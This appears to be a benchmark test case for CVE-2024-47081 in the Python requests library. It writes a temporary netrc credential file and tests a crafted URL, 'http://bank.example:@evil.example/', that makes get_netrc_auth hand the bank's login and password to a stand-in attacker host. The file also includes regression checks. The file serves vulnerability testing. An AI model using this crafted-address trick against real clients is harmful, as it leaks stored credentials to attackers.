# /// case
# id = "CVE-2024-47081"
# package = "requests"
# vulnerable = "2.32.3"
# fixed = "2.32.4"
# what = "a crafted address gets the netrc password of another host"
# shape = "two functions, a new constant in another module"
# requires = ["certifi==2024.8.30", "charset-normalizer==3.4.0", "idna==3.10", "urllib3==2.2.3"]
# modules = ["requests"]
# ///
"""The host was cut from the address by hand, at the first colon, where a user name may end."""

import os
import tempfile
from pathlib import Path

from requests.utils import get_netrc_auth, super_len

os.environ["NETRC"] = str(Path(tempfile.mkdtemp(), "netrc"))
Path(os.environ["NETRC"]).write_text("machine bank.example login me password secret\n")


def exploit() -> bool:
    return get_netrc_auth("http://bank.example:@evil.example/") == ("me", "secret")


def regression() -> None:
    assert get_netrc_auth("http://bank.example/") == ("me", "secret")
    assert get_netrc_auth("http://bank.example:8080/a") == ("me", "secret")
    assert get_netrc_auth("http://evil.example/") is None
    assert super_len("aé") == 3
